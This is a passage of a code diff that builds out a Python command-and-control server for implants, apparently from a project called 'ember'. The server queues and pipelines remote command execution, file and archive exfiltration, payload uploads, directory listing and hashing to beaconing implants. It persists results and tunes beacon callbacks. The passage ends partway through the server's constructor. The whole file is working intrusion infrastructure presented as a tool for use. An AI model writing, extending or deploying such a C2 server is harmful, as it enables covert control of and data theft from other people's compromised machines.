@@ -1,131 +1,1086 @@
 #!/usr/bin/python3
+"""ember C2: an asyncio listener that dispatches queued tasks to implants as they beacon in.
 
+Every beacon is a Session driven by a small state machine over the framing in src/ember/include/task.h:
+CHECKIN -> DISPATCH -> AWAIT_RESPONSE -> ... -> CLOSED. Queued tasks are pipelined to the implant in batches and
+their responses are read back in order. Socket data is read straight into the buffer the session is waiting on
+(see SessionProtocol), so OUTPUT, DOWNLOAD and archive payloads are never copied on their way in.
+
+With a TaskStore (store.py) every check-in, queued task and result is persisted and pending tasks survive a restart.
+DOWNLOADs larger than STREAM_THRESHOLD and all ARCHIVE DOWNLOADs are then streamed to content addressed files instead
+of being held in RAM, sparse ones with their holes left as holes. Store writes that fail are logged.
+
+DOWNLOADs are checked against the implant's CRC32C as they arrive. The checksum comes from ember_accel, a C extension
+built from the implant's crc32c.c (ember_accel.c, installed next to this file by the CMake build), which reads the
+receive buffers in place and releases the GIL, so long spans run on the executor while the loop serves other sessions.
+
+All server state belongs to the event loop thread. Other threads (the CLI) hand commands over with the *_threadsafe
+methods and read implant state from C2Server.snapshot, an immutable mapping the loop swaps out as state changes, so
+queries never take a lock or wait on the loop.
+"""
+
+import argparse
+import asyncio
+import cmd
+import collections
+import concurrent.futures
+import contextlib
+import dataclasses
+import enum
+import hashlib
+import ipaddress
+import logging
 import socket
-import uuid
 import struct
-import cmd
-import uuid
-import select
-from enum import Enum, IntEnum, auto
-import time
 import threading
 import time
-import dataclasses
+import types
+import typing
+import uuid
+from collections.abc import Callable, Mapping
 
-import asyncio
+from store import HASH_CHUNK_LEN, BlobWriter, StoredTask, TaskStore
+
+try:
+    from ember_accel import crc32c as native_crc32c  # Built from src/c2/ember_accel.c, see py_crc32c() without it
+except ImportError:
+    native_crc32c = None
+
+logger = logging.getLogger("ember.c2")
+
+# [op_code u8][pad_len u8][flags u16][perms u16][data_len u32][file_len u64]
+TASK_HDR = struct.Struct(">BBHHIQ")
+# [response_code i8][data_len u64]
+RESPONSE_HDR = struct.Struct(">bQ")
+# Sparse DOWNLOAD extent, [offset u64][length u64], a zero length ends the file
+EXTENT_HDR = struct.Struct(">QQ")
+# [type u8][path_len u16][mode u32][mtime u64][size u64], see src/ember/include/archive.h
+ARCHIVE_ENTRY_HDR = struct.Struct(">BHIQQ")
+# [type u8][depth u8][path_len u16][mode u32][uid u32][gid u32][size u64][mtime u64], see src/ember/include/list.h
+LIST_ENTRY_HDR = struct.Struct(">BBHIIIQQ")
+# [type u8][path_len u16][size u64][digest 32], see src/ember/include/hash.h
+HASH_ENTRY_HDR = struct.Struct(">BHQ32s")
+CHECKIN_LEN = 17  # [guid 16][pad_len u8], followed by pad_len bytes of padding
 
+READ_BUF_LEN = 64 * 1024  # Staging buffer for headers, payloads bypass it
+WRITE_HIGH_WATER = 1024 * 1024  # Transport buffer size at which writers wait in drain()
+UPLOAD_CHUNK = 256 * 1024
+MAX_BATCH = 64
+SNAPSHOT_CHECKINS = 32  # Most recent check-ins kept in memory and in an ImplantSnapshot
+STREAM_THRESHOLD = 1024 * 1024  # DOWNLOADs above this go to the store's blob files rather than RAM
+STREAM_CHUNK = 1024 * 1024
+FASTOPEN_QUEUE_LEN = 1024  # Pending Fast Open SYNs, matches the listen backlog
+CHECKSUM_OFFLOAD = 256 * 1024  # Received spans at least this long are checksummed on the executor
 
-class OpCodes(IntEnum):
+
+class OpCodes(enum.IntEnum):
     SETTINGS = 1
-    EXEC = auto()
-    DOWNLOAD = auto()
-    UPLOAD = auto()
-    DISCONNECT = auto()
-    EXIT = auto()
+    EXEC = enum.auto()
+    DOWNLOAD = enum.auto()
+    UPLOAD = enum.auto()
+    DISCONNECT = enum.auto()
+    EXIT = enum.auto()
+    STATS = enum.auto()
+    CANCEL = enum.auto()
+    JOB_LIST = enum.auto()
+    JOB_OUTPUT = enum.auto()
+    JOB_KILL = enum.auto()
+    LIST = enum.auto()
+    HASH = enum.auto()
+
+
+# Generated by a session for its own connection, never stored or replayed
+SESSION_OPS = (OpCodes.DISCONNECT, OpCodes.CANCEL)
+
+
+class ResponseCodes(enum.IntEnum):
+    """Errors are sent negated, e.g. -FILE_ERROR. OUTPUT frames carry a positive code."""
+
+    SUCCESS = 0
+    INVALID_CONFIG = 1
+    OUTPUT = 2
+    FILE_ERROR = 3
+    TIMED_OUT = 4
+    CANCELLED = 5
+    JOB_ERROR = 6
+    NO_MEMORY = 7  # The implant's memory budget had no room for the task, it was not run
+
+
+class SettingsFlags(enum.IntFlag):
+    INTERVAL = 1
+    WINDOW = 2
+    CALLBACK = 4
+    MODE = 16
+    SEED = 32
+    RATE_LIMIT = 64
+    TASK_RATE_LIMIT = 128
+    POLL_BOUNDS = 256
+    MEM_BUDGET = 512
+
+
+class DisconnectFlags(enum.IntFlag):
+    MORE_WORK = 1  # [delay_ms u32], the implant calls back after that delay instead of its interval
+
+
+class FileFlags(enum.IntFlag):
+    OVERWRITE = 1
+    SPARSE = 2
+    ARCHIVE = 4
+
+
+class ArchiveTypes(enum.IntEnum):
+    END = 0
+    FILE = enum.auto()
+    DIR = enum.auto()
+    SYMLINK = enum.auto()
+    ERROR = enum.auto()
+
+
+class ListTypes(enum.IntEnum):
+    ENTRY = 0
+    ERROR = enum.auto()  # mode is the errno
+
+
+class HashTypes(enum.IntEnum):
+    FILE = 0
+    ERROR = enum.auto()  # size is the errno
+
+
+class SessionState(enum.Enum):
+    CHECKIN = enum.auto()
+    DISPATCH = enum.auto()
+    AWAIT_RESPONSE = enum.auto()
+    CLOSED = enum.auto()
+
+
+class ProtocolError(Exception):
+    pass
+
 
 @dataclasses.dataclass
-class ImplantInfo():
-    id: str
-    interval: int
-    settings: dict = {}
-    checkins: list[str] = []
-    pending_tasks: list = []
-    finished_tasks: list = []
+class ArchiveEntry:
+    type: int
+    path: bytes
+    mode: int
+    mtime: int
+    data: memoryview | None  # None when the archive was streamed to the store, see TaskResult.blob
 
-class C2Server:
 
-    def __init__(self, ip: str = "127.0.0.1", port: int = 31337):
-        self.ip = ip
-        self.port = port
-        self.implants: dict[str:ImplantInfo] = {}
-        self.tasks = []
+@dataclasses.dataclass
+class ListEntry:
+    type: int
+    depth: int
+    path: bytes  # Relative to the listed root
+    mode: int
+    uid: int
+    gid: int
+    size: int
+    mtime: int
 
-        self.lock = asyncio.Lock()
 
-    async def handle_client(
-        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
-    ):
-        checkin = await reader.read(17)
-        guid = uuid.UUID(bytes=checkin[:16])
+@dataclasses.dataclass
+class HashEntry:
+    type: int
+    path: bytes
+    size: int
+    digest: bytes
+
+    def blob(self, store: TaskStore) -> str | None:
+        """Store address of the file's contents, None when the store does not hold them and the file needs a
+        DOWNLOAD. Files of any size are found, through the store's index of blobs by this digest."""
+        return store.find_blob(self.digest) if HashTypes.FILE == self.type else None
+
+
+@dataclasses.dataclass
+class TaskResult:
+    code: int
+    data: memoryview  # Payload of the final response
+    output: list[memoryview] = dataclasses.field(default_factory=list)  # EXEC, LIST and HASH OUTPUT frames
+    contents: memoryview | None = None  # DOWNLOAD file contents
+    # SHA-256 of DOWNLOAD contents streamed to the store, archives in their wire format. Instead of contents unless it
+    # was teed into the task's sink
+    blob: str | None = None
+    entries: list[ArchiveEntry] = dataclasses.field(default_factory=list)  # DOWNLOAD with FileFlags.ARCHIVE
+    checksum: int | None = None  # CRC32C the C2 computed over a DOWNLOAD as it arrived, None when not verified
+
+    @property
+    def digest(self) -> int | None:
+        """CRC32C the implant reports for a successful DOWNLOAD or UPLOAD."""
+        return struct.unpack(">I", self.data)[0] if 4 == len(self.data) else None
+
+    @property
+    def verified(self) -> bool | None:
+        """Whether a DOWNLOAD arrived as the implant sent it, None when it was not checksummed or did not succeed."""
+        if (self.checksum is None) or (self.digest is None):
+            return None
+        return self.checksum == self.digest
+
+    def packed_entries(self) -> bytes | None:
+        """Archive entries back in their wire format, terminated by an END entry. None once they went to a blob."""
+        if (not self.entries) or (self.blob is not None):
+            return None
+        packed = bytearray()
+        for entry in self.entries:
+            packed += ARCHIVE_ENTRY_HDR.pack(entry.type, len(entry.path), entry.mode, entry.mtime, len(entry.data))
+            packed += entry.path + entry.data
+        return bytes(packed + ARCHIVE_ENTRY_HDR.pack(ArchiveTypes.END, 0, 0, 0, 0))
+
+    def list_entries(self) -> list[ListEntry]:
+        """Entries of a LIST, decoded from its OUTPUT frames. The final response's data is [count u32][truncated u8]."""
+        entries = []
+        for frame in self.output:
+            offset = 0
+            while offset < len(frame):
+                entry_type, depth, path_len, *meta = LIST_ENTRY_HDR.unpack_from(frame, offset)
+                offset += LIST_ENTRY_HDR.size
+                entries.append(ListEntry(entry_type, depth, bytes(frame[offset : offset + path_len]), *meta))
+                offset += path_len
+        return entries
+
+    def hash_entries(self) -> list[HashEntry]:
+        """Entries of a HASH, decoded from its OUTPUT frames. The final response's data is [count u32]."""
+        entries = []
+        for frame in self.output:
+            offset = 0
+            while offset < len(frame):
+                entry_type, path_len, size, digest = HASH_ENTRY_HDR.unpack_from(frame, offset)
+                offset += HASH_ENTRY_HDR.size
+                entries.append(HashEntry(entry_type, bytes(frame[offset : offset + path_len]), size, digest))
+                offset += path_len
+        return entries
+
+
+def encode_list(path: str, max_depth: int = 0, limit: int = 0, pattern: str = "") -> bytes:
+    """LIST payload: [max_depth u8][limit u32][pattern_len u8][pattern][path]. 0 is the implant's depth cap and no
+    limit, an empty pattern sends every entry."""
+    pattern_bytes = pattern.encode()
+    return struct.pack(">BIB", max_depth, limit, len(pattern_bytes)) + pattern_bytes + path.encode()
+
+
+def encode_hash(paths: list[str], max_threads: int = 0) -> bytes:
+    """HASH payload: [max_threads u8] then the paths NUL separated. 0 threads is one per CPU on the implant."""
+    return bytes([max_threads]) + b"\0".join(path.encode() for path in paths)
+
+
+def content_digest(file: typing.BinaryIO) -> bytes:
+    """Digest HASH reports for a file, to compare a stored file with one on the implant before downloading it."""
+    chunk_digests = []
+    while chunk := file.read(HASH_CHUNK_LEN):
+        chunk_digests.append(hashlib.sha256(chunk).digest())
+    if 1 >= len(chunk_digests):
+        return chunk_digests[0] if chunk_digests else hashlib.sha256(b"").digest()
+    return hashlib.sha256(b"".join(chunk_digests)).digest()
+
+
+def _crc32c_table() -> tuple[int, ...]:
+    table = []
+    for byte in range(256):
+        crc = byte
+        for _ in range(8):
+            crc = (crc >> 1) ^ (0x82F63B78 & -(crc & 1))
+        table.append(crc)
+    return tuple(table)
+
+
+CRC32C_TABLE = _crc32c_table()
+
+
+def py_crc32c(data: bytes | memoryview, crc: int = 0) -> int:
+    """Table driven CRC32C with the signature of ember_accel.crc32c(), for when the extension is not built. Holds the
+    GIL throughout and runs at a few MB/s, so DOWNLOADs are only verified with it when the server is asked to."""
+    table = CRC32C_TABLE
+    crc ^= 0xFFFFFFFF
+    for byte in data:
+        crc = table[(crc ^ byte) & 0xFF] ^ (crc >> 8)
+    return crc ^ 0xFFFFFFFF
+
+
+def encode_callbacks(endpoints: list[tuple[str, int]]) -> bytes:
+    """CALLBACK payload: [count u8] then per endpoint [family u8, 4 or 6][address 4 or 16 bytes][port u16]."""
+    data = bytearray([len(endpoints)])
+    for host, port in endpoints:
+        addr = ipaddress.ip_address(host)
+        data += bytes([addr.version]) + addr.packed + struct.pack(">H", port)
+    return bytes(data)
+
+
+@dataclasses.dataclass
+class Task:
+    op_code: int
+    data: bytes | memoryview = b""
+    flags: int = 0
+    perms: int = 0
+    file_len: int = 0  # UPLOAD length, or the DOWNLOAD size limit (0 is unlimited)
+    payload: bytes | memoryview = b""  # UPLOAD contents, sent once the implant accepts the task
+    sink: memoryview | None = None  # Optional preallocated destination for a plain DOWNLOAD, must be writable
+    id: uuid.UUID = dataclasses.field(default_factory=uuid.uuid4)
+    result: asyncio.Future | None = None
+
+    @classmethod
+    def from_stored(cls, stored: StoredTask) -> "Task":
+        return cls(stored.op_code, stored.data, stored.flags, stored.perms, stored.file_len, stored.payload, id=stored.id)
+
+    def header(self) -> bytes:
+        file_len = len(self.payload) if OpCodes.UPLOAD == self.op_code else self.file_len
+        return TASK_HDR.pack(self.op_code, 0, self.flags, self.perms, len(self.data), file_len)
+
+
+@dataclasses.dataclass(frozen=True)
+class ImplantSnapshot:
+    """Read-only copy of an ImplantInfo, safe to hold on to from any thread."""
+
+    guid: uuid.UUID
+    num_checkins: int
+    checkins: tuple[float, ...]  # The most recent SNAPSHOT_CHECKINS
+    pending_tasks: int
+    finished_tasks: int
+
+
+@dataclasses.dataclass
+class ImplantInfo:
+    guid: uuid.UUID
+    num_checkins: int = 0
+    checkins: collections.deque[float] = dataclasses.field(
+        default_factory=lambda: collections.deque(maxlen=SNAPSHOT_CHECKINS)
+    )
+    pending_tasks: collections.deque[Task] = dataclasses.field(default_factory=collections.deque)
+    finished_tasks: int = 0
+    task_ready: asyncio.Event = dataclasses.field(default_factory=asyncio.Event)
+
+    def snapshot(self) -> ImplantSnapshot:
+        return ImplantSnapshot(
+            self.guid,
+            self.num_checkins,
+            tuple(self.checkins),
+            len(self.pending_tasks),
+            self.finished_tasks,
+        )
+
+    def take_batch(self, max_batch: int) -> list[Task]:
+        """Pop the tasks that can be pipelined without waiting on a response. An UPLOAD must hear back before its
+        payload is sent and nothing may follow a DISCONNECT, so either one ends the batch."""
+        batch = []
+        while self.pending_tasks and len(batch) < max_batch:
+            task = self.pending_tasks.popleft()
+            batch.append(task)
+            if task.op_code in (OpCodes.UPLOAD, OpCodes.DISCONNECT):
+                break
+        if not self.pending_tasks:
+            self.task_ready.clear()
+        return batch
+
+
+class SessionProtocol(asyncio.BufferedProtocol):
+    """Socket reader/writer for one Session.
+
+    While the session waits in readinto() the transport receives directly into the caller's buffer. Otherwise data
+    lands in a fixed staging buffer that headers are unpacked from in place. Reading pauses while the staging buffer
+    is full and writers wait in drain() while the transport is above WRITE_HIGH_WATER.
+    """
+
+    def __init__(self, server: "C2Server"):
+        self.server = server
+        self.transport: asyncio.Transport | None = None
+        self.session: Session | None = None
+        self._staging = memoryview(bytearray(READ_BUF_LEN))
+        self._start = 0
+        self._end = 0
+        self._target: memoryview | None = None
+        self._filled = 0
+        self._waiter: asyncio.Future | None = None
+        self._closed_exc: Exception | None = None
+        self._reading_paused = False
+        self._writing_paused = False
+        self._drain_waiter: asyncio.Future | None = None
+
+    # asyncio.BufferedProtocol callbacks
+
+    def connection_made(self, transport: asyncio.Transport):
+        self.transport = transport
+        transport.get_extra_info("socket").setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        transport.set_write_buffer_limits(high=WRITE_HIGH_WATER)
+        self.session = Session(self.server, self)
+        self.server.session_opened(self.session)
+
+    def get_buffer(self, sizehint: int) -> memoryview:
+        if self._target is not None:
+            return self._target[self._filled :]
+        if self._start == self._end:
+            self._start = self._end = 0
+        elif self._end == len(self._staging):
+            staged = self._end - self._start
+            self._staging[:staged] = bytes(self._staging[self._start : self._end])
+            self._start, self._end = 0, staged
+        return self._staging[self._end :]
+
+    def buffer_updated(self, nbytes: int):
+        self.server.bytes_in += nbytes
+        if self._target is not None:
+            self._filled += nbytes
+            if self._filled == len(self._target):
+                self._target = None
+                self._wake()
+            return
+
+        self._end += nbytes
+        if (self._end == len(self._staging)) and (0 == self._start) and not self._reading_paused:
+            self._reading_paused = True
+            self.transport.pause_reading()
+        self._wake()
+
+    def eof_received(self) -> bool:
+        self._fail(ProtocolError("connection closed by implant"))
+        return False
+
+    def connection_lost(self, exc: Exception | None):
+        self._fail(ConnectionError(str(exc)) if exc else ProtocolError("connection closed"))
+
+    def pause_writing(self):
+        self._writing_paused = True
+
+    def resume_writing(self):
+        self._writing_paused = False
+        if (self._drain_waiter is not None) and not self._drain_waiter.done():
+            self._drain_waiter.set_result(None)
+
+    # Session side
+
+    async def readinto(self, view: memoryview):
+        """Fill view completely. Anything already staged is copied, the rest is received directly into view."""
+        staged = min(self._end - self._start, len(view))
+        if staged:
+            view[:staged] = self._staging[self._start : self._start + staged]
+            self._consume(staged)
+        if staged < len(view):
+            self._target, self._filled = view, staged
+            await self._wait()
+
+    async def read_struct(self, fmt: struct.Struct) -> tuple:
+        """Unpack a header straight from the staging buffer."""
+        while self._end - self._start < fmt.size:
+            await self._wait()
+        values = fmt.unpack_from(self._staging, self._start)
+        self._consume(fmt.size)
+        return values
+
+    async def readexactly(self, num_bytes: int) -> memoryview:
+        view = memoryview(bytearray(num_bytes))
+        await self.readinto(view)
+        return view
+
+    def write(self, *buffers: bytes | memoryview):
+        for buffer in buffers:
+            self.server.bytes_out += len(buffer)
+        self.transport.writelines(buffers)
+
+    async def drain(self):
+        if self._closed_exc is not None:
+            raise self._closed_exc
+        if self._writing_paused:
+            self._drain_waiter = asyncio.get_running_loop().create_future()
+            await self._drain_waiter
+
+    def close(self):
+        if self.transport is not None:
+            self.transport.close()
+
+    def _consume(self, num_bytes: int):
+        self._start += num_bytes
+        if self._reading_paused:
+            self._reading_paused = False
+            self.transport.resume_reading()
+
+    async def _wait(self):
+        if self._closed_exc is not None:
+            raise self._closed_exc
+        self._waiter = asyncio.get_running_loop().create_future()
+        try:
+            await self._waiter
+        finally:
+            self._waiter = None
+
+    def _wake(self):
+        if (self._waiter is not None) and not self._waiter.done():
+            self._waiter.set_result(None)
+
+    def _fail(self, exc: Exception):
+        if self._closed_exc is None:
+            self._closed_exc = exc
+        for waiter in (self._waiter, self._drain_waiter):
+            if (waiter is not None) and not waiter.done():
+                waiter.set_exception(self._closed_exc)
+
+
+class Session:
+    """One beacon, from check-in until the implant is sent DISCONNECT or the connection drops."""
+
+    def __init__(self, server: "C2Server", protocol: SessionProtocol):
+        self.server = server
+        self.protocol = protocol
+        self.state = SessionState.CHECKIN
+        self.implant: ImplantInfo | None = None
+        self.in_flight: list[Task] = []
+        self.tasks_run = 0  # Not counting SESSION_OPS
+        self.handlers: dict[int, Callable] = {
+            OpCodes.EXEC: self._receive_exec,
+            OpCodes.DOWNLOAD: self._receive_download,
+            OpCodes.UPLOAD: self._receive_upload,
+            OpCodes.LIST: self._receive_exec,  # Entries come in OUTPUT frames too
+            OpCodes.HASH: self._receive_exec,
+        }
+
+    async def run(self):
+        try:
+            await self._checkin()
+            while await self._dispatch():
+                pass
+        except (ProtocolError, ConnectionError):
+            # Delivery is at least once, unfinished tasks go back to the front of the queue for the next beacon
+            unfinished = [task for task in self.in_flight if not task.result.done()]
+            for task in reversed(unfinished):
+                if task.op_code in SESSION_OPS:
+                    task.result.cancel()  # Meaningless on the next connection
+                else:
+                    self.implant.pending_tasks.appendleft(task)
+            if unfinished:
+                self.server.implant_changed(self.implant)
+        finally:
+            self.state = SessionState.CLOSED
+            self.protocol.close()
+            self.server.session_closed(self)
+
+    async def _checkin(self):
+        checkin = await self.protocol.readexactly(CHECKIN_LEN)
+        await self.protocol.readexactly(checkin[16])  # Random padding
+        self.implant = self.server.checkin(uuid.UUID(bytes=bytes(checkin[:16])))
+        self.state = SessionState.DISPATCH
+
+    async def _dispatch(self) -> bool:
+        """Send the next batch of tasks and read their responses. Returns False once the session is over."""
+        if not self.implant.pending_tasks and self.server.linger:
+            try:
+                await asyncio.wait_for(self.implant.task_ready.wait(), self.server.linger)
+            except asyncio.TimeoutError:
+                pass
+        if not self.implant.pending_tasks:
+            self.server.submit(self.implant.guid, self._disconnect())
+
+        self.in_flight = self.implant.take_batch(self.server.max_batch)
+        self.protocol.write(*(buffer for task in self.in_flight for buffer in (task.header(), task.data)))
+        await self.protocol.drain()
+
+        self.state = SessionState.AWAIT_RESPONSE
+        for task in self.in_flight:
+            result = await self.handlers.get(task.op_code, self._receive_default)(task)
+            self.server.task_finished(self.implant, task, result)
+            self.tasks_run += task.op_code not in SESSION_OPS
+        self.state = SessionState.DISPATCH
+        self.server.implant_changed(self.implant)
+
+        return OpCodes.DISCONNECT != self.in_flight[-1].op_code
+
+    def _disconnect(self) -> Task:
+        """An operator who just tasked the implant is likely to follow up, and a plain DISCONNECT would leave the
+        follow-up waiting out the implant's interval. After a session that ran tasks the DISCONNECT asks for a callback
+        after follow_up instead, the implant slows back down on its own once sessions come up empty."""
+        if self.server.follow_up and self.tasks_run:
+            delay_ms = struct.pack(">I", round(self.server.follow_up * 1000))
+            return Task(OpCodes.DISCONNECT, delay_ms, flags=DisconnectFlags.MORE_WORK)
+        return Task(OpCodes.DISCONNECT)
+
+    def cancel(self) -> asyncio.Future | None:
+        """Send CANCEL for the EXEC being run. The implant only sees it while nothing else is queued behind the EXEC,
+        so only the last task of a batch can be cancelled. The EXEC's result comes back as -CANCELLED with its exit
+        status, the returned future resolves once the implant has answered the CANCEL itself."""
+        if (SessionState.AWAIT_RESPONSE != self.state) or (OpCodes.EXEC != self.in_flight[-1].op_code):
+            return None
+        task = Task(OpCodes.CANCEL)
+        task.result = self.server.loop.create_future()
+        self.in_flight.append(task)  # _dispatch reads its response after the EXEC's
+        self.protocol.write(task.header(), task.data)
+        return task.result
+
+    async def _response(self) -> tuple[int, memoryview]:
+        code, data_len = await self.protocol.read_struct(RESPONSE_HDR)
+        return code, await self.protocol.readexactly(data_len)
+
+    async def _receive_default(self, task: Task) -> TaskResult:
+        return TaskResult(*await self._response())
+
+    async def _receive_exec(self, task: Task) -> TaskResult:
+        output = []
+        code, data = await self._response()
+        while ResponseCodes.OUTPUT == code:
+            output.append(data)
+            code, data = await self._response()
+        return TaskResult(code, data, output=output)
+
+    async def _receive_download(self, task: Task) -> TaskResult:
+        code, data = await self._response()
+        contents = None
+        blob = None
+        entries = []
+        crc = 0  # Over the contents in the order the implant sent them, as its digest is
+        b_store = self.server.store is not None
+        if (ResponseCodes.SUCCESS == code) and (task.flags & FileFlags.ARCHIVE):
+            entries, blob, crc = await (self._receive_archive_to_blob() if b_store else self._receive_archive())
+        elif ResponseCodes.SUCCESS == code:
+            (size,) = struct.unpack(">Q", data)
+            b_stream = b_store and (size > STREAM_THRESHOLD)
+            if b_stream and (task.flags & FileFlags.SPARSE):
+                blob, crc = await self._receive_extents_to_blob(size)
+            elif b_stream:
+                contents, blob, crc = await self._receive_to_blob(size, task.sink)
+            elif task.flags & FileFlags.SPARSE:
+                # Holes must read as zeros, so sparse files always get a fresh buffer
+                contents = memoryview(bytearray(size))
+                crc = await self._receive_extents(contents)
+            else:
+                b_fits = (task.sink is not None) and (len(task.sink) >= size)
+                contents = task.sink[:size] if b_fits else memoryview(bytearray(size))
+                crc = await self._receive_checked(contents, crc)
+        code, data = await self._response()
+        checksum = crc if self.server.crc32c is not None else None
+        return TaskResult(code, data, contents=contents, blob=blob, entries=entries, checksum=checksum)
+
+    async def _checksum(self, view: memoryview, crc: int) -> int:
+        """Extend crc with view. Long spans go to the executor, where ember_accel checksums them without the GIL while
+        the loop serves other sessions."""
+        if self.server.crc32c is None:
+            return crc
+        if len(view) < CHECKSUM_OFFLOAD:
+            return self.server.crc32c(view, crc)
+        return await self.server.loop.run_in_executor(None, self.server.crc32c, view, crc)
+
+    async def _receive_checked(self, view: memoryview, crc: int) -> int:
+        """Fill view a STREAM_CHUNK at a time, checksumming each chunk while the next one arrives. Returns crc extended
+        with view."""
+        if self.server.crc32c is None:
+            await self.protocol.readinto(view)
+            return crc
+        pending = None
+        for offset in range(0, len(view), STREAM_CHUNK):
+            chunk = view[offset : offset + STREAM_CHUNK]
+            await self.protocol.readinto(chunk)
+            if pending is not None:
+                crc = await pending
+            pending = asyncio.ensure_future(self._checksum(chunk, crc))
+        return crc if pending is None else await pending
+
+    async def _receive_blob_chunk(self, writer: BlobWriter, view: memoryview, crc: int, head: bytes = b"") -> int:
+        """Receive view and write it to the blob after head, returns crc extended with view. The write runs on the
+        executor while view is checksummed, view can be reused once this returns."""
+        await self.protocol.readinto(view)
+        crc, _ = await asyncio.gather(self._checksum(view, crc), self._write_blob(writer, head, view))
+        return crc
+
+    def _write_blob(self, writer: BlobWriter, *chunks: bytes | memoryview) -> asyncio.Future:
+        """Past HASH_CHUNK_LEN the digest HASH reports is hashed next to the blob's own, on another executor thread."""
+        offset = writer.size
+        write = self.server.loop.run_in_executor(None, writer.write, *chunks)
+        if offset + sum(map(len, chunks)) <= HASH_CHUNK_LEN:
+            return write
+        return asyncio.gather(write, self.server.loop.run_in_executor(None, writer.hash_chunks, offset, *chunks))
+
+    async def _receive_span_to_blob(self, writer: BlobWriter, chunk: memoryview, length: int, crc: int) -> int:
+        """Stream length bytes into the blob through chunk, returns crc extended with them."""
+        for offset in range(0, length, len(chunk)):
+            crc = await self._receive_blob_chunk(writer, chunk[: min(len(chunk), length - offset)], crc)
+        return crc
 
-        async with self.lock:
-            if guid not in self.implants:
-                self.implants[guid] = ImplantInfo(guid, checkins=[time.asctime()])
+    async def _finish_blob(self, writer: BlobWriter, receive: typing.Awaitable[int]) -> tuple[str, int]:
+        """Await receive, which fills writer, and move the blob to its address. Returns its SHA-256 and the CRC32C
+        receive returned. The blob is removed when receiving it fails."""
+        try:
+            crc = await receive
+        except BaseException:
+            writer.abort()
+            raise
+        return await self.server.loop.run_in_executor(None, writer.finish), crc
+
+    async def _receive_to_blob(self, size: int, sink: memoryview | None) -> tuple[memoryview | None, str, int]:
+        """Stream size bytes into a blob file, teed into sink when it fits them and through one reused buffer otherwise.
+        Returns the contents left in sink, the blob's SHA-256 and the CRC32C."""
+        contents = sink[:size] if (sink is not None) and (len(sink) >= size) else None
+        writer = BlobWriter(self.server.store)
+        if contents is None:
+            receive = self._receive_span_to_blob(writer, memoryview(bytearray(STREAM_CHUNK)), size, 0)
+        else:
+            receive = self._receive_sink_to_blob(writer, contents)
+        return contents, *await self._finish_blob(writer, receive)
+
+    async def _receive_sink_to_blob(self, writer: BlobWriter, contents: memoryview) -> int:
+        crc = 0
+        for offset in range(0, len(contents), STREAM_CHUNK):
+            crc = await self._receive_blob_chunk(writer, contents[offset : offset + STREAM_CHUNK], crc)
+        return crc
+
+    async def _receive_extents_to_blob(self, size: int) -> tuple[str, int]:
+        """Stream a sparse file into a blob file, the gaps between extents left as holes. Returns its SHA-256 and the
+        CRC32C of the extents' data."""
+        writer = BlobWriter(self.server.store)
+        return await self._finish_blob(writer, self._receive_extents_to_writer(writer, size))
+
+    async def _receive_extents_to_writer(self, writer: BlobWriter, size: int) -> int:
+        chunk = memoryview(bytearray(STREAM_CHUNK))
+        crc = 0
+        while True:
+            offset, length = await self.protocol.read_struct(EXTENT_HDR)
+            if 0 == length:
+                break
+            # The implant sends extents in ascending order, a blob is only written forwards
+            if (offset < writer.size) or (offset + length > size):
+                raise ProtocolError(f"sparse extent {offset}+{length} out of order or past the end of the file")
+            if offset > writer.size:
+                await self.server.loop.run_in_executor(None, writer.write_hole, offset - writer.size)
+            crc = await self._receive_span_to_blob(writer, chunk, length, crc)
+        if size > writer.size:
+            await self.server.loop.run_in_executor(None, writer.write_hole, size - writer.size)
+        return crc
+
+    async def _receive_extents(self, contents: memoryview) -> int:
+        """Returns the CRC32C of the extents' data in the order they arrived."""
+        crc = 0
+        while True:
+            offset, length = await self.protocol.read_struct(EXTENT_HDR)
+            if 0 == length:
+                return crc
+            if offset + length > len(contents):
+                raise ProtocolError(f"sparse extent {offset}+{length} past the end of the file")
+            crc = await self._receive_checked(contents[offset : offset + length], crc)
+
+    async def _receive_archive(self) -> tuple[list[ArchiveEntry], None, int]:
+        """Returns the entries, no blob and the CRC32C of their data in the order they arrived."""
+        entries = []
+        crc = 0
+        while True:
+            entry_type, path_len, mode, mtime, size = await self.protocol.read_struct(ARCHIVE_ENTRY_HDR)
+            if ArchiveTypes.END == entry_type:
+                return entries, None, crc
+            path = bytes(await self.protocol.readexactly(path_len))
+            data = memoryview(bytearray(size))
+            crc = await self._receive_checked(data, crc)
+            entries.append(ArchiveEntry(entry_type, path, mode, mtime, data))
+
+    async def _receive_archive_to_blob(self) -> tuple[list[ArchiveEntry], str, int]:
+        """Stream an archive into a blob file in its wire format, see TaskResult.packed_entries(). Returns the entries
+        without their data, the blob's SHA-256 and the CRC32C of the entries' data."""
+        entries: list[ArchiveEntry] = []
+        writer = BlobWriter(self.server.store)
+        return entries, *await self._finish_blob(writer, self._receive_archive_to_writer(writer, entries))
+
+    async def _receive_archive_to_writer(self, writer: BlobWriter, entries: list[ArchiveEntry]) -> int:
+        chunk = memoryview(bytearray(STREAM_CHUNK))
+        crc = 0
+        while True:
+            header = await self.protocol.read_struct(ARCHIVE_ENTRY_HDR)
+            entry_type, path_len, mode, mtime, size = header
+            if ArchiveTypes.END == entry_type:
+                await self._write_blob(writer, ARCHIVE_ENTRY_HDR.pack(*header))
+                return crc
+            path = bytes(await self.protocol.readexactly(path_len))
+            head = ARCHIVE_ENTRY_HDR.pack(*header) + path
+            if size <= len(chunk):
+                # Most entries are small files, written with their header in one go
+                crc = await self._receive_blob_chunk(writer, chunk[:size], crc, head)
             else:
-                self.implants[guid].checkins.append(time.asctime())
+                await self._write_blob(writer, head)
+                crc = await self._receive_span_to_blob(writer, chunk, size, crc)
+            entries.append(ArchiveEntry(entry_type, path, mode, mtime, None))
+
+    async def _receive_upload(self, task: Task) -> TaskResult:
+        code, data = await self._response()
+        if ResponseCodes.SUCCESS == code:
+            payload = memoryview(task.payload)
+            for offset in range(0, len(payload), UPLOAD_CHUNK):
+                self.protocol.write(payload[offset : offset + UPLOAD_CHUNK])
+                await self.protocol.drain()
+        # A refused upload still gets its final response
+        code, data = await self._response()
+        return TaskResult(code, data)
+
+
+def _log_store_failure(future: concurrent.futures.Future):
+    """Runs on the store's writer thread."""
+    if future.exception() is not None:
+        logger.error("store write failed: %s", future.exception())
 
-        writer.close()
-        await writer.wait_closed()
+
+class C2Server:
+    def __init__(
+        self,
+        ip: str = "127.0.0.1",
+        port: int = 31337,
+        linger: float = 0.0,
+        max_batch: int = MAX_BATCH,
